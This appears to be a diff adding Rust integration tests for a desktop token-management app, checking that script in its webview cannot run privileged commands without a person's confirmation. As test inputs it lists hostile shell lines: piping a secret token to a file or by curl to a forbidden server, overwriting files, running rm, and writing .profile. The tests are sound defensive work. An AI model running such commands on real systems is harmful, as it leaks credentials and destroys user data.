@@ -1,0 +1,230 @@
+//! Script in the page can call every command the page can. What the page must not decide alone does not
+//! happen unless a person says so outside it.
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+
+use serde_json::{Value, json};
+
+use crate::canary::{in_memory, made};
+use crate::desktop::until;
+use crate::navigation::Port;
+use crate::reveal::in_page;
+use crate::world::World;
+
+const REACH: &str = "Connect to this server";
+const RUN: &str = "Run this program";
+const REPLACE: &str = "Replace this file";
+const SAVE: &str = "Save this file";
+const OPEN: &str = "Open this file";
+const REVOKE: &str = "Revoke this token";
+
+/// What hostile script does: the command, its arguments, and what the person is asked.
+struct Act {
+    command: &'static str,
+    arguments: Value,
+    asked: String,
+}
+
+fn act(command: &'static str, asked: &str, arguments: Value) -> Act {
+    Act { command, arguments, asked: asked.to_owned() }
+}
+
+/// The files and servers that are to stay as they are.
+struct Prey {
+    world: World,
+    forbidden: Port,
+    plan: u32,
+}
+
+impl Prey {
+    async fn set_up() -> Self {
+        let world = World::connected().await;
+        made(&world, "fresh").await;
+        let home = world.desktop.home();
+        for (file, text) in [("precious", "mine"), ("policy.toml", "stale_days = 9000\n")] {
+            fs::write(home.join(file), text).expect("a file");
+        }
+        let steal = home.join("steal");
+        fs::write(&steal, "#!/bin/sh\ncat > \"$HOME/stolen\"\n").expect("a program");
+        fs::set_permissions(&steal, fs::Permissions::from_mode(0o700)).expect("it can be run");
+        let forbidden = Port::open();
+        fs::create_dir(home.join(".nt3")).expect("a folder");
+        let config = json!({"token": "entri_0123456789abcdef", "api_url": forbidden.address});
+        fs::write(home.join(".nt3/config.json"), config.to_string()).expect("a file");
+        let prey = Self { world, forbidden, plan: 0 };
+        let query = json!({"text": "", "view": "all", "sort": "name", "descending": false,
+            "seq": 1, "top": 0, "len": 10, "anchor": null});
+        prey.call("tokens_select_all", json!({"request": query})).await;
+        let plan = prey.call("cleanups_plan", json!({"of": null})).await;
+        let plan = plan["id"].as_u64().and_then(|id| u32::try_from(id).ok()).expect("a plan");
+        // The presses of the person who made the token are used up.
+        let _ = prey.call("audit_load_policy", json!({"connection": 1, "path": "/nowhere"})).await;
+        Self { plan, ..prey }
+    }
+
+    /// What a command answers, or why it fails.
+    async fn call(&self, command: &str, arguments: Value) -> Value {
+        self.begin(command, &arguments).await;
+        self.ended().await
+    }
+
+    async fn begin(&self, command: &str, arguments: &Value) {
+        let script = format!(
+            "window.ended = null;
+             const keep = (it) => (window.ended = [it ?? null]);
+             window.__TAURI_INTERNALS__.invoke('{command}', {arguments}).then(keep, keep)"
+        );
+        self.world.app.eval(&script).await;
+    }
+
+    async fn ended(&self) -> Value {
+        self.world.app.until("the command ends", "return window.ended !== null").await;
+        self.world.app.eval("return window.ended[0]").await
+    }
+
+    fn acts(&self) -> Vec<Act> {
+        let home = self.world.desktop.home().display();
+        let to = &self.forbidden.address;
+        let own = &self.world.sandbox.ready().base_url;
+        let mut acts = Vec::new();
+        for line in [
+            format!("{home}/steal"),
+            format!("sh -c 'cat > {home}/stolen'"),
+            format!("tee {home}/stolen"),
+            format!("env -i tee {home}/stolen"),
+            format!("cp /dev/stdin {home}/stolen"),
+            format!("dd of={home}/precious"),
+            format!("python3 -c 'open(\"{home}/stolen\", \"w\")'"),
+            format!("curl --data-binary @- {to}"),
+            format!("/usr/bin/env sh -c 'rm {home}/precious'"),
+        ] {
+            acts.push(act("secrets_send", RUN, json!({"handle": 1, "line": line})));
+        }
+        for handle in [1, 1] {
+            acts.push(act("secrets_reveal", "Show the value", json!({"handle": handle})));
+        }
+        for (file, asked) in [("precious", REPLACE), ("steal", REPLACE), (".profile", SAVE)] {
+            let path = format!("{home}/{file}");
+            acts.push(act("secrets_save", asked, json!({"handle": 1, "path": path})));
+            for format in ["csv", "html", "json"] {
+                let arguments = json!({"format": format, "path": path});
+                acts.push(act("audit_save_report", asked, arguments));
+            }
+            let arguments = json!({"connection": 1, "path": path});
+            acts.push(act("audit_save_policy", asked, arguments));
+        }
+        let path = format!("{home}/policy.toml");
+        acts.push(act("audit_load_policy", OPEN, json!({"connection": 1, "path": path})));
+        for address in [to, own] {
+            for (asked, way) in [
+                ("Enter the API token", json!({"kind": "apiToken"})),
+                ("Enter the password", json!({"kind": "password", "email": "a@b.example"})),
+                ("Enter the session cookie", json!({"kind": "cookie"})),
+            ] {
+                let request =
+                    json!({"address": address, "credential": way, "organizationId": null});
+                acts.push(act("connections_connect", asked, json!({"request": request})));
+            }
+        }
+        let way = json!({"kind": "cli", "place": "globalFile"});
+        let request = json!({"address": "", "credential": way, "organizationId": null});
+        acts.push(act("connections_connect", REACH, json!({"request": request})));
+        let arguments = json!({"address": to, "organizationId": null});
+        acts.push(act("connections_sign_in_in_window", REACH, arguments));
+        for name in ["contractor-import", "Mira's laptop", "fresh"] {
+            acts.push(act("tokens_revoke", REVOKE, self.revoke(name)));
+        }
+        let arguments = json!({"plan": self.plan, "typed": "48"});
+        acts.push(act("cleanups_run", "Revoke 48 tokens", arguments));
+        let arguments = json!({"id": 1, "anyway": true});
+        acts.push(act("connections_disconnect", "Disconnect", arguments));
+        acts
+    }
+
+    fn revoke(&self, name: &str) -> Value {
+        let key = json!({"connection": 1, "id": self.world.id_of(name)});
+        let seen = json!({"name": name, "created": null, "lastUsed": null});
+        json!({"request": {"key": key, "seen": seen, "typedName": name}})
+    }
+
+    fn holds(&self, file: &str) -> Option<String> {
+        fs::read_to_string(self.world.desktop.home().join(file)).ok()
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn script_in_the_page_does_nothing_that_nobody_confirmed() {
+    let prey = Prey::set_up().await;
+    let Prey { world, forbidden, .. } = &prey;
+    let (alive, requests) = (world.alive(), world.sandbox.requests().len());
+    let acts = prey.acts();
+    assert!(acts.len() >= 40, "{} acts", acts.len());
+    for Act { command, arguments, asked } in acts {
+        prey.begin(command, &arguments).await;
+        world.desktop.say_no(&asked);
+        let answer = prey.ended().await;
+        let refused = answer.is_null() || answer["code"] == "declined";
+        assert!(refused, "{command} {arguments}: {answer}");
+    }
+    assert_eq!(world.alive(), alive, "no token was revoked");
+    assert_eq!(world.sandbox.requests().len(), requests, "its server was asked for nothing");
+    assert_eq!(forbidden.connections(), 0, "and another one neither");
+    assert_eq!(prey.holds("precious").as_deref(), Some("mine"));
+    assert!(prey.holds("steal").is_some_and(|it| it.starts_with("#!/bin/sh")));
+    assert_eq!((prey.holds("stolen"), prey.holds(".profile")), (None, None));
+    assert!(world.app.eval("return document.querySelector('.connect') === null").await == true);
+}
+
+/// The control: what is confirmed happens, so the acts above were real.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_confirmed_happens() {
+    let prey = Prey::set_up().await;
+    let Prey { world, forbidden, .. } = &prey;
+    let acts = prey.acts();
+    let yes = async |of: &Act, yes: &str| {
+        prey.begin(of.command, &of.arguments).await;
+        world.desktop.say_yes(&of.asked, yes);
+        prey.ended().await
+    };
+    let first = |command: &str, asked: &str| {
+        acts.iter().find(|it| it.command == command && it.asked == asked).expect("there is one")
+    };
+    let said = yes(first("secrets_send", RUN), "Run").await;
+    assert!(prey.holds("stolen").is_some_and(|it| it.starts_with("entri_")), "{said}");
+    let said = yes(first("secrets_save", REPLACE), "Replace").await;
+    assert!(prey.holds("precious").is_some_and(|it| it.starts_with("entri_")), "{said}");
+    let value = yes(first("secrets_reveal", "Show the value"), "Show").await;
+    assert!(value.as_str().is_some_and(|it| it.starts_with("entri_")));
+    let reach = first("connections_connect", REACH);
+    prey.begin(reach.command, &reach.arguments).await;
+    world.desktop.say_yes(REACH, "Connect");
+    until("the other server is reached", || forbidden.connections() > 0);
+}
+
+/// Whoever made a token and then enters it for another server by mistake is stopped.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_new_value_goes_to_no_other_server() {
+    let prey = Prey::set_up().await;
+    let Prey { world, forbidden, .. } = &prey;
+    prey.begin("secrets_reveal", &json!({"handle": 1})).await;
+    world.desktop.say_yes("Show the value", "Show");
+    let value = prey.ended().await.as_str().expect("a value").to_owned();
+    let credential = json!({"kind": "apiToken"});
+    let request = json!({"address": forbidden.address, "credential": credential,
+        "organizationId": null});
+    prey.begin("connections_connect", &json!({"request": request})).await;
+    world.desktop.enter("Enter the API token", &value);
+    let said = prey.ended().await;
+    assert!(said["message"].as_str().is_some_and(|it| it.contains("Nothing was sent")), "{said}");
+    assert_eq!(forbidden.connections(), 0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_one_signs_in_with_never_gets_into_the_page() {
+    let world = World::connected().await;
+    let token = world.sandbox.ready().admin_token.clone();
+    let places = in_memory(&world, &token);
+    assert!(!in_page(&places), "{places:?}");
+    assert!(places.iter().any(|it| it.starts_with("entri-tokens")), "the app uses it: {places:?}");
+}
